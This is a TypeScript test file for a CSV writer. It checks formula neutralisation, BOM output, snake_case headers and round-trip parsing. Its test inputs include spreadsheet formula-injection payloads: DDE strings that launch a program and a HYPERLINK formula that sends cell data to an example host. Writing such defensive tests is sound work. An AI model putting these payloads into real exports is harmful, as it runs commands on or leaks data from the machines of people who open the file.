/** The one CSV writer: formulas neutralised (OWASP), BOM, snake_case columns, round trip. */
import { execFileSync } from "node:child_process";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { BOM, neutralizeCell, snakeCase, toCsv } from "~/lib/csv";

const HOSTILE = [
  '=HYPERLINK("https://example.org/?x="&A1;"Cliquez")',
  "+33 6 12 34 56 78",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

function hasPython() {
  try {
    execFileSync("python3", ["-c", "import csv"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

describe("csv", () => {
  it("prefixes every cell that would start a formula with a single quote", () => {
    for (const h of HOSTILE) expect(neutralizeCell(h)).toBe(`'${h}`);
    for (const safe of ["Bancs", "", "'déjà cité", " =espace d'abord", "Cœur de ville", "12"]) expect(neutralizeCell(safe)).toBe(safe);
  });

  it("writes a BOM, snake_case headers, and cells that csv-parse (bom: true) reads back", () => {
    const rows = [...HOSTILE.map((h, i) => [i, h, true] as const), [99, "Café, « guillemets » et \"doubles\"\nsur deux lignes", null] as const];
    const csv = toCsv(["id", "subject_title", "answered_in_time"], rows);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const back = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(back[0]!)).toEqual(["id", "subject_title", "answered_in_time"]);
    HOSTILE.forEach((h, i) => expect(back[i]).toEqual({ id: String(i), subject_title: `'${h}`, answered_in_time: "true" }));
    expect(back[HOSTILE.length]).toEqual({ id: "99", subject_title: "Café, « guillemets » et \"doubles\"\nsur deux lignes", answered_in_time: "" });
  });

  it("writes negative numbers as numbers, and only text is neutralised", () => {
    const back = parse(toCsv(["delta"], [[-3]]), { bom: true, columns: true });
    expect(back).toEqual([{ delta: "-3" }]);
  });

  it("refuses column names that are not snake_case, and rows of the wrong width", () => {
    expect(() => toCsv(["publishedAt"], [])).toThrow(/snake_case/);
    expect(() => toCsv(["published_at", "Answer Delay"], [])).toThrow(/snake_case/);
    expect(() => toCsv(["a", "b"], [["x"]])).toThrow(/cells/);
    expect(snakeCase("answerDelayDays")).toBe("answer_delay_days");
    expect(snakeCase("minVotingAge")).toBe("min_voting_age");
  });

  it.skipIf(!hasPython())("is read unchanged by Python's csv module with utf-8-sig (as pandas does)", () => {
    const csv = toCsv(["id", "title"], [[1, "Cœur de ville"], [2, "=1+1"]]);
    const out = execFileSync("python3", ["-c", "import csv,io,sys,json; r=list(csv.DictReader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline=''))); print(json.dumps(r, ensure_ascii=False))"], {
      input: Buffer.from(csv, "utf8"),
    });
    expect(JSON.parse(out.toString("utf8"))).toEqual([
      { id: "1", title: "Cœur de ville" },
      { id: "2", title: "'=1+1" },
    ]);
  });
});
